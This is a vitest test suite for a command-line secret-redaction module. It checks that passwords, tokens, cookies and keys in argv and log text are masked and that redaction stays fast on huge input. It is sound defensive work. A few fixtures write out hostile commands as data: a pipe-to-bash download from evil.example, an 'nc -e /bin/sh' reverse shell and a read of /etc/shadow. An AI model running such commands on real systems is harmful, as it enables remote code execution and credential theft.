import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { REDACTED, redactCommand, redactEvent, redactText } from '../../src/alerts/redact.js';

const R = REDACTED;

/** Splits a test command line on single spaces (no quoting needed in these cases). */
function argvOf(line: string): string[] {
  return line.split(' ');
}

describe('redactCommand: flags that take secrets', () => {
  it.each([
    ['mysql -uroot -pS3cret! appdb', `mysql -uroot -p${R} appdb`],
    ['mysqldump --password=S3cret appdb', `mysqldump --password=${R} appdb`],
    ['psql --password hunter2 -h db-1', `psql --password ${R} -h db-1`],
    ['vault write auth --token s.abcdef', `vault write auth --token ${R}`],
    ['tool --secret=abc --api-key xyz --client-secret=q', `tool --secret=${R} --api-key ${R} --client-secret=${R}`],
    ['sshpass -p hunter2 ssh db-1', `sshpass -p ${R} ssh db-1`],
    ['sshpass -phunter2 ssh db-1', `sshpass -p${R} ssh db-1`],
    ['curl -u alice:hunter2 https://api.example/x', `curl -u alice:${R} https://api.example/x`],
    ['curl -ualice:hunter2 https://api.example/x', `curl -ualice:${R} https://api.example/x`],
    ['curl --user=alice:hunter2 https://api.example/x', `curl --user=alice:${R} https://api.example/x`],
    ['redis-cli -a hunter2 ping', `redis-cli -a ${R} ping`],
    ['ldapsearch -x -D cn=admin -w hunter2 -b dc=x', `ldapsearch -x -D cn=admin -w ${R} -b dc=x`],
    ['smbclient //fs/share -U alice%hunter2', `smbclient //fs/share -U alice%${R}`],
    ['docker login -u bot -p hunter2 registry.example', `docker login -u bot -p ${R} registry.example`],
    ['openssl rsa -in k.pem -passin pass:hunter2', `openssl rsa -in k.pem -passin pass:${R}`],
    ['useradd -p $6$salt$hash eve', `useradd -p ${R} eve`],
    ['htpasswd -b /etc/nginx/htpasswd alice hunter2', `htpasswd -b /etc/nginx/htpasswd alice ${R}`],
    ['aws configure set aws_secret_access_key wJalrXUtnFEMI', `aws configure set aws_secret_access_key ${R}`],
    ['kubectl create secret generic db --from-literal=password=hunter2', `kubectl create secret generic db --from-literal=password=${R}`],
    ['env PGPASSWORD=hunter2 psql -h db-1', `env PGPASSWORD=${R} psql -h db-1`],
    ['env AWS_SECRET_ACCESS_KEY=abc/def+ghi aws s3 ls', `env AWS_SECRET_ACCESS_KEY=${R} aws s3 ls`],
    ['env MYSQL_PWD=hunter2 mysql', `env MYSQL_PWD=${R} mysql`],
  ])('%s', (line, expected) => {
    const result = redactCommand(argvOf(line));
    expect(result.command).toBe(expected);
    expect(result.argv).toEqual(argvOf(expected));
    expect(result.redacted).toBe(true);
  });

  it('redacts a header argument and keeps its scheme', () => {
    const result = redactCommand(['curl', '-H', 'Authorization: Bearer eyJhbGciOi.abc', 'https://api.example/x']);
    expect(result.argv).toEqual(['curl', '-H', `Authorization: Bearer ${R}`, 'https://api.example/x']);
  });

  it('redacts secrets inside a shell -c script', () => {
    const script = "mysql -uroot -pS3cret db < dump.sql && curl -u bot:tok https://x.example && export PGPASSWORD='a b c'";
    const result = redactCommand(['sh', '-c', script]);
    expect(result.argv[2]).toBe(`mysql -uroot -p${R} db < dump.sql && curl -u bot:${R} https://x.example && export PGPASSWORD=${R}`);
  });
});

describe('redactCommand: passwords in more shapes', () => {
  it.each([
    [['openssl', 'passwd', '-6', 'S3cretPW'], ['openssl', 'passwd', '-6', R]],
    [['openssl', 'passwd', '-6', '-salt', 'abc', 'S3cretPW'], ['openssl', 'passwd', '-6', '-salt', 'abc', R]],
    [['keytool', '-importkeystore', '-storepass', 'S3cret', '-keypass', 'K3y'], ['keytool', '-importkeystore', '-storepass', R, '-keypass', R]],
    [['tool', '-password', 'S3cretPW'], ['tool', '-password', R]],
    [['tool', '-password=S3cretPW'], ['tool', `-password=${R}`]],
    [['env', 'REDISCLI_AUTH=S3cret', 'redis-cli'], ['env', `REDISCLI_AUTH=${R}`, 'redis-cli']],
    [['tool', 'password:S3cretPW'], ['tool', `password:${R}`]],
    [['find', '.', '-name', 'x', '-newer', 'y'], ['find', '.', '-name', 'x', '-newer', 'y']],
    [['kubectl', 'get', 'pods', '-l', 'app:web'], ['kubectl', 'get', 'pods', '-l', 'app:web']],
  ])('%j', (argv, expected) => {
    expect(redactCommand(argv).argv).toEqual(expected);
  });
});

describe('redactCommand: tool flags inside scripts, quoted or not', () => {
  it.each([
    ["curl -u 'alice:S3cretPW' https://x", `curl -u 'alice:${R}' https://x`],
    ['curl -u "alice:S3cretPW" https://x', `curl -u "alice:${R}" https://x`],
    ["sshpass -p 'S3cretPW' ssh h", `sshpass -p '${R}' ssh h`],
    ["mysql -p'my secret' -e 'select 1'", `mysql -p'${R}' -e 'select 1'`],
    ["redis-cli -a 'my secret pw' ping", `redis-cli -a '${R}' ping`],
    ['redis-cli -a hunter2 ping', `redis-cli -a ${R} ping`],
    ["cd /srv && sudo -u app mysql --password 'a b' db; echo done", `cd /srv && sudo -u app mysql --password ${R} db; echo done`],
    ["timeout 5 docker login -u bot -p \"pw here\" reg.example", `timeout 5 docker login -u bot -p "${R}" reg.example`],
    ["echo 'hello world' | grep -c \"a\\\"b\"", "echo 'hello world' | grep -c \"a\\\"b\""],
    ["echo 'bob:S3cretPW' | chpasswd", `echo 'bob:${R}' | chpasswd`],
    ['echo S3cretPW | sudo -S apt-get update', `echo ${R} | sudo -S apt-get update`],
    ["printf '%s\\n' 'S3cretPW' | sudo -kS -u app id", `printf '%s\\n' '${R}' | sudo -kS -u app id`],
    ['echo S3cretPW | passwd --stdin bob', `echo ${R} | passwd --stdin bob`],
    ['echo hello | sudo tee /etc/motd', 'echo hello | sudo tee /etc/motd'],
    ["printf '%s\\n' root:S3cret | sudo chpasswd -c SHA512", `printf '%s\\n' root:${R} | sudo chpasswd -c SHA512`],
    ['echo bob:x || chpasswd', 'echo bob:x || chpasswd'],
    ["chpasswd <<< 'bob:S3cretPW'", `chpasswd <<< 'bob:${R}'`],
    ['sudo chpasswd <<<"bob:S3cretPW" -c SHA512; ls', `sudo chpasswd <<<"bob:${R}" -c SHA512; ls`],
    ["grep -c x <<< 'a:b'", "grep -c x <<< 'a:b'"],
    ['sudo -S id <<< S3cretPW', `sudo -S id <<< ${R}`],
    ["passwd --stdin bob <<< 'S3cretPW'", `passwd --stdin bob <<< '${R}'`],
    ['echo S3cretPW | docker login -u bob --password-stdin registry.example.com', `echo ${R} | docker login -u bob --password-stdin registry.example.com`],
    ["printf 'S3cretPW' | podman login --username bob --password-stdin quay.io", `printf '${R}' | podman login --username bob --password-stdin quay.io`],
    ['cat <<< hello', 'cat <<< hello'],
    ['cat > /etc/app.yml <<EOF\ndb:\n  password: S3cretPW\nEOF', `cat > /etc/app.yml <<EOF\ndb:\n  password: ${R}\nEOF`],
    ['echo password: S3cretPW >> app.yml', `echo password: ${R} >> app.yml`],
    ['chpasswd <<EOF\nalice:S3cret one\nbob:S3cret2\nEOF\necho alice:done', `chpasswd <<EOF\nalice:${R} ${R}\nbob:${R}\nEOF\necho alice:done`],
    ["cat <<'END' | sudo chpasswd\nroot:S3cret\nEND", `cat <<'END' | sudo chpasswd\nroot:${R}\nEND`],
    ['chpasswd <<-END\n\tbob:S3cret\n\tEND\nid bob:x', `chpasswd <<-END\n\tbob:${R}\n\tEND\nid bob:x`],
    ['cat <<EOF > /etc/app.conf\nmode:fast\nEOF', 'cat <<EOF > /etc/app.conf\nmode:fast\nEOF'],
    ["curl 'https://bob:my S3cret@example.com/x'", `curl 'https://bob:${R}@example.com/x'`],
    ['curl https://example.com:8443 -d user@example.com', 'curl https://example.com:8443 -d user@example.com'],
  ])('%s', (script, expected) => {
    expect(redactCommand(['bash', '-c', script]).argv[2]).toBe(expected);
  });

  it('redacts the same secret in the sudo form of the script', () => {
    const result = redactCommand(['/bin/sh', '-c', "curl -u 'alice:S3cretPW' https://x"]);
    expect(result.command).not.toContain('S3cretPW');
    expect(result.redacted).toBe(true);
  });
});

describe('redactCommand: leaves non-secrets alone', () => {
  it.each([
    'mkdir -p /srv/app/releases',
    'docker run -p 8080:80 nginx',
    'ssh -p 2222 db-1',
    'mysql -p appdb',
    'docker login --password-stdin -u bot registry.example',
    'psql --no-password -h db-1',
    'tool --token-file /run/secrets/token --password-file=/run/pw',
    'ansible-playbook --ask-become-pass site.yml',
    'curl -s https://api.example/items?page=2&limit=50',
    'git clone git@github.com:acme/app.git',
    'ssh://git@github.com/acme/app.git',
    'cat /etc/shadow',
    'grep -r password /srv/app/config',
    'openssl rsa -in k.pem -passin env:KEY_PASS',
    'llm --max_tokens=100',
    'echo <!channel> <script>alert(1)</script>',
    'env PWD=/srv/app OLDPWD=/home/alice make',
  ])('%s', (line) => {
    const argv = argvOf(line);
    const result = redactCommand(argv);
    expect(result.argv).toEqual(argv);
    expect(result.command).toBe(line);
    expect(result.redacted).toBe(false);
  });

  it('keeps argv length and positions', () => {
    const argv = ['curl', '-u', 'a:b', '', 'x'];
    expect(redactCommand(argv).argv).toEqual(['curl', '-u', `a:${R}`, '', 'x']);
    expect(redactCommand([])).toEqual({ argv: [], command: '', redacted: false });
  });
});

describe('redactCommand: a tool behind a wrapper or a remote host', () => {
  it.each([
    [['sudo', 'mysql', '-pS3cret'], ['sudo', 'mysql', `-p${R}`]],
    [['docker', 'exec', '-it', 'db', 'mysql', '-uroot', '-pS3cret'], ['docker', 'exec', '-it', 'db', 'mysql', '-uroot', `-p${R}`]],
    [['kubectl', 'exec', 'db', '--', 'mysql', '-pS3cret'], ['kubectl', 'exec', 'db', '--', 'mysql', `-p${R}`]],
    [['timeout', '5', '/usr/bin/mysql', '-pS3cret'], ['timeout', '5', '/usr/bin/mysql', `-p${R}`]],
    [['env', 'mysql', '-pS3cret'], ['env', 'mysql', `-p${R}`]],
    [['nohup', 'curl', '-u', 'a:S3cret', 'https://x'], ['nohup', 'curl', '-u', `a:${R}`, 'https://x']],
    [['sudo', 'sshpass', '-p', 'S3cret', 'ssh', 'h'], ['sudo', 'sshpass', '-p', R, 'ssh', 'h']],
    [['ssh', 'db-1', 'redis-cli', '-a', 'S3cret'], ['ssh', 'db-1', 'redis-cli', '-a', R]],
    [['sudo', 'ldapsearch', '-w', 'S3cret'], ['sudo', 'ldapsearch', '-w', R]],
    [['sudo', 'htpasswd', '-b', '/etc/nginx/htpasswd', 'alice', 'S3cret'], ['sudo', 'htpasswd', '-b', '/etc/nginx/htpasswd', 'alice', R]],
    [['sudo', 'docker', 'login', '-u', 'bot', '-p', 'S3cret', 'reg'], ['sudo', 'docker', 'login', '-u', 'bot', '-p', R, 'reg']],
    [['sudo', 'openssl', 'passwd', '-6', 'S3cret'], ['sudo', 'openssl', 'passwd', '-6', R]],
    // A command line split at its blanks (laurel's ARGV_STR when argc does not match).
    [['cat', '/etc/shadow', 'mysql', '-pS3cret'], ['cat', '/etc/shadow', 'mysql', `-p${R}`]],
    [['sh', '-c', 'curl', '-u', 'bob:S3cret', 'https://x/i.sh', '|', 'sh'], ['sh', '-c', 'curl', '-u', `bob:${R}`, 'https://x/i.sh', '|', 'sh']],
  ])('%j', (argv, expected) => {
    const result = redactCommand(argv);
    expect(result.argv).toEqual(expected);
    expect(result.redacted).toBe(true);
  });

  it('takes a flag value that names a tool as the value, not as the tool', () => {
    expect(redactCommand(['sshpass', '-p', 'curl', 'ssh', 'h']).argv).toEqual(['sshpass', '-p', R, 'ssh', 'h']);
  });

  it('keeps flags of other tools that only look like password flags', () => {
    for (const argv of [['sudo', 'docker', 'run', '-p', '8080:80', 'nginx'], ['sudo', 'ssh', '-p', '2222', 'db-1'], ['timeout', '5', 'mysql', '-p', 'appdb']]) {
      expect(redactCommand(argv).argv).toEqual(argv);
    }
  });
});

describe("redactCommand: curl's -H glued to its header", () => {
  // curl -H'Authorization: ...' and -HAuthorization:\\ ... reach curl as one word: flag and header.
  it.each([
    [['curl', '-HAuthorization: Bearer S3cretTok', 'https://x']],
    [['curl', '-HPRIVATE-TOKEN: S3cretTok', '-HCookie: session=S3cretCookie', 'https://x']],
    [['sh', '-c', 'curl -HAuthorization:\\ Bearer\\ S3cretTok https://x | sh']],
    [['curl', '-sSHAuthorization: Bearer S3cretTok', '-fsSLHPRIVATE-TOKEN: S3cretTok', '-kHCookie: a=S3cretCookie', 'https://x']],
  ])('%j', (argv) => {
    const shown = redactCommand(argv).argv;
    expect(shown.join(' ')).not.toMatch(/S3cret/);
    expect(shown.join(' ')).toMatch(/-[a-zA-Z]*H(Authorization|PRIVATE-TOKEN)/);
    expect(shown[0]).toBe(argv[0]);
  });
});

describe('redactCommand: header names inside other words', () => {
  it('keeps a header-like name that is part of a longer word', () => {
    for (const argv of [['grep', 'xAuthorization: Bearer word'], ['echo', 'a-HAuthorization: x'], ['echo', 'HAuthorization: x'], ['echo', '--HAuthorization: x'], ['echo', '-s1HAuthorization: x']]) {
      expect(redactCommand(argv).argv).toEqual(argv);
    }
  });
});

describe('redactCommand: headers and cookies given word by word', () => {
  it.each([
    [['curl', '-H', 'Authorization:', 'Bearer', 'S3cretTok', 'https://x'], ['curl', '-H', 'Authorization:', 'Bearer', R, 'https://x']],
    [['curl', '-H', 'authorization:', 'S3cretTok'], ['curl', '-H', 'authorization:', R]],
    [['http', 'https://x', 'Authorization:', 'Basic YWxpY2U6aHVudGVyMg=='], ['http', 'https://x', 'Authorization:', `Basic ${R}`]],
    [['curl', '--cookie', 'session=S3cret; theme=dark', 'https://x'], ['curl', '--cookie', `session=${R}; theme=${R}`, 'https://x']],
    [['curl', '-b', 'sid=S3cret', 'https://x'], ['curl', '-b', `sid=${R}`, 'https://x']],
  ])('%j', (argv, expected) => {
    expect(redactCommand(argv).argv).toEqual(expected);
  });

  it('keeps a cookie jar file', () => {
    const argv = ['curl', '-b', 'cookies.txt', '-c', 'cookies.txt', 'https://x'];
    expect(redactCommand(argv).argv).toEqual(argv);
  });
});

describe('redactCommand: a script that starts with an assignment', () => {
  it.each([
    [['bash', '-c', 'PASSWORD=x; curl http://evil.example/i.sh | bash'], `PASSWORD=${R}; curl http://evil.example/i.sh | bash`],
    [['bash', '-c', 'TOKEN=x curl http://evil.example/i.sh | bash'], `TOKEN=${R} curl http://evil.example/i.sh | bash`],
    [['sh', '-c', 'SECRET=1 nc -e /bin/sh 10.0.0.1 4444'], `SECRET=${R} nc -e /bin/sh 10.0.0.1 4444`],
    [['bash', '-lc', "PASSWORD='a b' ./deploy.sh"], `PASSWORD=${R} ./deploy.sh`],
    [['ssh', 'db-1', 'PASSWORD=x; curl http://evil.example/i.sh | bash'], `PASSWORD=${R}; curl http://evil.example/i.sh | bash`],
  ])('%j keeps what runs after the assignment', (argv, script) => {
    expect(redactCommand(argv).argv.at(-1)).toBe(script);
  });

  it("redacts the password of curl's proxy, with or without a scheme, and leaves a proxy without one", () => {
    expect(redactCommand(['curl', '-x', 'bob:S3cret@proxy.example.com:3128', 'https://x']).argv).toEqual(['curl', '-x', `bob:${R}@proxy.example.com:3128`, 'https://x']);
    expect(redactCommand(['curl', '--proxy', 'http://bob:S3cret@proxy:3128', 'https://x']).argv).toEqual(['curl', '--proxy', `http://bob:${R}@proxy:3128`, 'https://x']);
    expect(redactCommand(['curl', '-x', 'proxy.example.com:3128', 'https://x']).argv).toEqual(['curl', '-x', 'proxy.example.com:3128', 'https://x']);
  });

  it('takes environment names ending in KEY as secret names, not flags or public keys', () => {
    expect(redactCommand(['env', 'KEY=Hunter2', 'ENCRYPTION_KEY=Hunter2Hunter2', 'STRIPE_KEY=sk_test_abcdef', 'app']).argv).toEqual(['env', `KEY=${R}`, `ENCRYPTION_KEY=${R}`, `STRIPE_KEY=${R}`, 'app']);
    expect(redactCommand(['SIGNING_KEY=hunter2']).argv).toEqual([`SIGNING_KEY=${R}`]);
    expect(redactCommand(['env', 'PUBLIC_KEY=abc', 'MONKEY=banana', 'x']).argv).toEqual(['env', 'PUBLIC_KEY=abc', 'MONKEY=banana', 'x']);
    expect(redactCommand(['curl', '--key', '/etc/ssl/k.pem', 'https://x']).argv).toEqual(['curl', '--key', '/etc/ssl/k.pem', 'https://x']);
  });

  it('still takes a whole argument as the value when it is not a script', () => {
    expect(redactCommand(['env', 'PASSWORD=correct horse battery', 'deploy']).argv).toEqual(['env', `PASSWORD=${R}`, 'deploy']);
    expect(redactCommand(['env', 'PASSWORD=a;b&c', 'deploy']).argv).toEqual(['env', `PASSWORD=${R}`, 'deploy']);
  });
});

describe('redactText: recognisable secrets anywhere', () => {
  it.each([
    ['git clone https://alice:hunter2@git.example/app.git', `git clone https://alice:${R}@git.example/app.git`],
    ["curl -s https://deploy:it'sHunter2@git.example.com/repo.git", `curl -s https://deploy:${R}@git.example.com/repo.git`],
    ['curl -s https://deploy:pa"Hunter2@git.example.com/repo.git', `curl -s https://deploy:${R}@git.example.com/repo.git`],
    [`curl 'https://bob:pa"ss@example.com/'`, `curl 'https://bob:${R}@example.com/'`],
    ["curl 'https://host:8080' 'mail@example.com'", "curl 'https://host:8080' 'mail@example.com'"],
    [`git clone https://${'0123456789abcdef'.repeat(2)}01234567@github.com/org/repo.git`, `git clone https://${R}@github.com/org/repo.git`],
    ['git clone https://git@github.com/org/repo.git', 'git clone https://git@github.com/org/repo.git'],
    ['headers={"Authorization": "Bearer Hunter2"}', `headers={"Authorization": "Bearer ${R}"}`],
    ['{"Proxy-Authorization":"Basic SHVudGVyMg=="}', `{"Proxy-Authorization":"Basic ${R}"}`],
    ["headers={'Authorization': 'Hunter2'}", `headers={'Authorization': '${R}'}`],
    ['Authorization=Bearer Hunter2', `Authorization=Bearer ${R}`],
    [`curl -H 'Authorization: Bearer "abc123"' x`, `curl -H 'Authorization: Bearer "${R}"' x`],
    ['psql postgres://app:pw@db-1:5432/app', `psql postgres://app:${R}@db-1:5432/app`],
    ['redis-cli -u redis://:pw@cache-1:6379', `redis-cli -u redis://:${R}@cache-1:6379`],
    ["curl -H 'Authorization: Bearer abc.def' https://x", `curl -H 'Authorization: ${'Bearer '}${R}' https://x`],
    ['curl -H "authorization: Basic dXNlcjpwYXNz" https://x', `curl -H "authorization: Basic ${R}" https://x`],
    ['curl -H "X-Api-Key: 12345" https://x', `curl -H "X-Api-Key: ${R}" https://x`],
    ['curl -H "Cookie: session=abc; csrftoken=def" https://x', `curl -H "Cookie: ${R}" https://x`],
    ['aws sts get-caller-identity AKIAIOSFODNN7EXAMPLE', `aws sts get-caller-identity ${R}`],
    [`gh auth ghp_${'a1B2'.repeat(9)}`, `gh auth ${R}`],
    [`git push https://github_pat_${'x'.repeat(30)}@github.com/a/b`, `git push https://${R}@github.com/a/b`],
    ['slack xoxb-1234567890-abcdefghij', `slack ${R}`],
    ['curl https://hooks.slack.com/services/T000/B000/XXXXXXXX', `curl https://hooks.slack.com/services/${R}`],
    ['jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', `jwt ${R}`],
    ['curl https://api.example/x?token=abc123&page=2', `curl https://api.example/x?token=${R}&page=2`],
    ['mount -o username=alice,password=hunter2 //fs/share /mnt', `mount -o username=alice,password=${R} //fs/share /mnt`],
    ['echo \'{"password": "hunter2", "user": "alice"}\'', `echo '{"password": ${R}, "user": "alice"}'`],
    ['deploy --api-key abcdef', `deploy --api-key ${R}`],
    ["mysql -uroot '-pS3cret' db", `mysql -uroot '-p${R}' db`],
    ['{"argv": ["mysql", "-pS3cret"]}', `{"argv": ["mysql", "-p${R}"]}`],
    [`signing key: ${'Zx9Qw2Er7Ty4Ui1Op3As6Df8Gh5Jk0LzXcVbNm1234'}`, `signing key: ${R}`],
    // INI, TOML and .env lines written with blanks around the `=`.
    ['echo "password = hunter2" >> /etc/app.ini', `echo "password = ${R}" >> /etc/app.ini`],
    ["printf 'db_password\t=\thunter2\n' > app.conf", `printf 'db_password\t=\t${R}\n' > app.conf`],
    ['echo "API_KEY =abc123" >> .env', `echo "API_KEY =${R}" >> .env`],
    ['test $pass = hunter2', `test $pass = ${R}`],
    ['[ "$password" == "$expected" ]', '[ "$password" == "$expected" ]'],
    ['echo "password_file = /etc/app/pw"', 'echo "password_file = /etc/app/pw"'],
    ['echo "timeout = 30"', 'echo "timeout = 30"'],
    ['echo "password = -x"', 'echo "password = -x"'],
  ])('%s', (text, expected) => {
    expect(redactText(text)).toBe(expected);
  });

  it('redacts private key blocks, complete or cut off', () => {
    const block = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nAAAA\n-----END OPENSSH PRIVATE KEY-----';
    expect(redactText(`echo '${block}' > k`)).toBe(`echo '-----BEGIN OPENSSH PRIVATE KEY-----${R}-----END OPENSSH PRIVATE KEY-----' > k`);
    expect(redactText('x -----BEGIN RSA PRIVATE KEY-----\nMIIEow')).toBe(`x -----BEGIN RSA PRIVATE KEY-----${R}`);
  });

  it('leaves low-entropy words after key/token alone', () => {
    const text = `key ${'a'.repeat(50)} token ${'abcabcabc'.repeat(6)}`;
    expect(redactText(text)).toBe(text);
  });

  it('does not change text without secrets, control bytes and broken surrogates included', () => {
    const texts = [
      'ls -la /home/alice',
      'echo "<!channel> <@U123> <https://evil|click>"',
      'printf \u0000\u0007\u001b[31m',
      'broken \uD800 surrogate \uDFFF here',
      'emoji 😀 and accents éü',
      '',
    ];
    for (const text of texts) expect(redactText(text)).toBe(text);
  });

  it('handles a secret next to invalid UTF-16', () => {
    expect(redactText('\uD800 PGPASSWORD=x \uDFFF')).toBe(`\uD800 PGPASSWORD=${R} \uDFFF`);
  });
});

describe('redactText: the working directory is not a password', () => {
  it('keeps PWD= of a sudo log line and redacts its command', () => {
    const line = 'Dec  1 10:00:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mysql --password=S3cret';
    expect(redactText(line)).toBe(`Dec  1 10:00:00 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/mysql --password=${R}`);
  });

  it('still redacts names that end in PWD', () => {
    expect(redactText('MYSQL_PWD=S3cret DB_PWD=S3cret2 pwd=S3cret3')).toBe(`MYSQL_PWD=${R} DB_PWD=${R} pwd=${R}`);
  });
});

describe('redactText: URL passwords holding @', () => {
  it.each([
    ['git clone https://user:p@ss@host/app.git', `git clone https://user:${R}@host/app.git`],
    ['psql postgres://app:p@ss@w0rd@db-1:5432/app', `psql postgres://app:${R}@db-1:5432/app`],
    ['curl https://:a@b@host', `curl https://:${R}@host`],
    ['git clone https://alice@corp.example:pw@git.example/x', `git clone https://alice@corp.example:${R}@git.example/x`],
    ["echo 'https://u:p@ss@h1/' https://v:q@h2/", `echo 'https://u:${R}@h1/' https://v:${R}@h2/`],
  ])('%s', (text, expected) => {
    expect(redactText(text)).toBe(expected);
  });

  it('keeps the host after the last @ visible and never shows a piece of the password', () => {
    const out = redactText('x https://deploy:s3cr@t@pa55@registry.example/v2');
    expect(out).toBe(`x https://deploy:${R}@registry.example/v2`);
    for (const piece of ['s3cr', 't@pa55', 'pa55']) expect(out).not.toContain(piece);
  });

  it('leaves URLs without a password alone', () => {
    for (const text of ['ssh://git@github.com:22/acme/app.git', 'https://host:8080/a@b', 'mailto://a@b.example']) {
      expect(redactText(text)).toBe(text);
    }
  });
});

describe('redactEvent', () => {
  it('redacts argv and rebuilds the command, keeping every other field', () => {
    const event = { host: 'web-1', argv: ['mysql', '-pS3cret', 'db'], command: 'mysql -pS3cret db', cwd: '/srv' };
    expect(redactEvent(event)).toEqual({ host: 'web-1', argv: ['mysql', `-p${R}`, 'db'], command: `mysql -p${R} db`, cwd: '/srv' });
    expect(event.argv[1]).toBe('-pS3cret');
  });
});

describe('redaction stays linear where it used to rescan', () => {
  const KIB = 1024;
  // Each of these took seconds (the first two tens of seconds) before; now milliseconds.
  const BUDGET_MS = 1500;

  it.each([
    ['marker values after secret names', 'pwd=[REDACTED]'.repeat((128 * KIB) / 14)],
    ['pwd=x blocks', 'pwd=x'.repeat((128 * KIB) / 5)],
    ['pwd = x blocks, blanks around each =', 'pwd \t = \t x '.repeat((128 * KIB) / 12)],
    ['runs of blanks and = after a secret name', `pwd${'        ='.repeat((128 * KIB) / 9)}`],
    ['a mixture of near-miss secrets', 'key= ghp_ eyJaaa-AKIA https://u: Authorization: curl -u mysql sshpass -a ſ\u212a'.repeat(3000)],
  ])('%s', (_what, text) => {
    const started = performance.now();
    const out = redactText(text);
    expect(performance.now() - started).toBeLessThan(BUDGET_MS);
    expect(out).not.toMatch(/pwd=x/);
  });

  it('fifteen 128 KiB arguments in one command', () => {
    // The leading word keeps the argument layer from taking the whole argument as one value.
    const argument = `x ${'pwd=[REDACTED]'.repeat((128 * KIB) / 14)}`;
    const started = performance.now();
    const result = redactCommand(['sh', '-c', ...Array.from({ length: 15 }, () => argument)]);
    expect(performance.now() - started).toBeLessThan(BUDGET_MS * 2);
    expect(result.argv).toHaveLength(17);
  });

  it('a command naming tools a hundred thousand times (each tool looks ahead once)', () => {
    const words = Array.from({ length: 100_000 }, (_, i) => ['openssl', 'docker', 'htpasswd', 'mysql', 'curl'][i % 5] as string);
    const started = performance.now();
    const result = redactCommand(['sudo', ...words, 'mysql', '-pS3cret']);
    expect(performance.now() - started).toBeLessThan(BUDGET_MS);
    expect(result.argv.at(-1)).toBe(`-p${R}`);
  });

  it('a password piped into sudo -S after a hundred thousand words', () => {
    const started = performance.now();
    const result = redactCommand(['sh', '-c', `printf ${'a '.repeat(100_000)}| sudo -S id`]);
    expect(performance.now() - started).toBeLessThan(BUDGET_MS);
    expect(result.argv[2]).toBe(`printf a ${`${R} `.repeat(99_999)}| sudo -S id`);
  });

  it('an htpasswd command with many arguments (the batch-flag check ran once per argument)', () => {
    const flags = Array.from({ length: 10_000 }, () => '-cCdDmMsSpP');
    const started = performance.now();
    const result = redactCommand(['htpasswd', ...flags, '/etc/htpasswd', 'alice']);
    expect(performance.now() - started).toBeLessThan(BUDGET_MS);
    expect(result.argv.at(-1)).toBe('alice');
    expect(redactCommand(['htpasswd', ...flags, '-b', '/etc/htpasswd', 'alice', 'hunter2']).argv.at(-1)).toBe(R);
  });
});

describe('redaction on hostile, huge input', () => {
  const MB = 1_000_000;

  it.each([
    ['a plain 1 MB argument', 'a'.repeat(MB)],
    ['repeated near-miss URLs', 'x://a:b'.repeat(MB / 7)],
    ['repeated near-miss headers', 'Authorization:'.repeat(MB / 14)],
    ['many key= words', 'key= token= secret= '.repeat(MB / 20)],
    ['an unterminated private key', `-----BEGIN RSA PRIVATE KEY-----${'A'.repeat(MB)}`],
    ['one huge secret value', `PGPASSWORD=${'x'.repeat(MB)}`],
    ['many real secrets', 'password=abc '.repeat(MB / 13)],
    ['a huge flag name', `--${'p'.repeat(MB)}password=abc`],
  ])('redacts %s in linear time', (_what, text) => {
    const started = performance.now();
    const out = redactText(text);
    // Backtracking would take hours; the bound only catches that, never a slow machine.
    expect(performance.now() - started).toBeLessThan(15_000);
    expect(out).not.toMatch(/password=abc/);
    expect(out).not.toMatch(/PGPASSWORD=x/);
  });

  it('redacts a 1 MB argv entry and many arguments', () => {
    const huge = 'y'.repeat(MB);
    const result = redactCommand(['mysql', `-p${huge}`, '--password', huge, ...Array.from({ length: 10_000 }, (_, i) => `arg${i}`)]);
    expect(result.argv.slice(0, 4)).toEqual(['mysql', `-p${R}`, '--password', R]);
    expect(result.argv).toHaveLength(10_004);
  });
});

describe('redaction properties', () => {
  it('never throws on arbitrary text and argv', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 8 }), (argv) => {
        const result = redactCommand(argv);
        expect(result.argv).toHaveLength(argv.length);
        expect(result.command).toBe(result.argv.join(' '));
        expect(typeof redactText(argv.join('\n'))).toBe('string');
      }),
    );
  });

  it('leaves text alone when it cannot spell a secret', () => {
    // No letters beyond a-d, so no secret word, token prefix or header name can appear.
    const safe = fc.string({ unit: fc.constantFrom(...'abcd0123 /.-_=:@"\',;&|\n'.split('')), maxLength: 300 });
    fc.assert(
      fc.property(safe, (text) => {
        expect(redactText(text)).toBe(text);
      }),
    );
  });

  it('is idempotent', () => {
    const inputs = ['mysql -pS3cret', 'PGPASSWORD=x psql', 'https://a:b@c', 'Authorization: Bearer abc', '--token abc'];
    for (const text of inputs) expect(redactText(redactText(text))).toBe(redactText(text));
  });
});
